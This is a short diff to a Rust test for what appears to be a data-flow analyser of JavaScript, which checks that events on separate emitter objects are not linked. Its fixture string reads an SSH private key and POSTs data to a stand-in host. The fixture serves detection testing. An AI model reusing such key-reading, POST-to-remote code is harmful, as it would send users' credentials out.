@@ -152,7 +152,7 @@ fn a_value_goes_where_the_language_takes_it() {
 fn a_common_event_belongs_to_its_object() {
     let text = "const fs = require('fs');\nconst { EventEmitter } = require('events');\nconst one = new EventEmitter(), two = new EventEmitter();\ntwo.on('data', (x) => fetch('https://files.example.invalid/a', { method: 'POST', body: x }));\none.emit('data', fs.readFileSync('/home/user/.ssh/id_rsa'));\n";
     let paths = paths("two.js", text);
-    assert!(!paths.contains("network.send"), "{paths}");
+    assert!(!paths.contains("file.credential"), "{paths}");
 }
 
 /// What stands in a file of data of the package is known, and so are the parts of a known address.
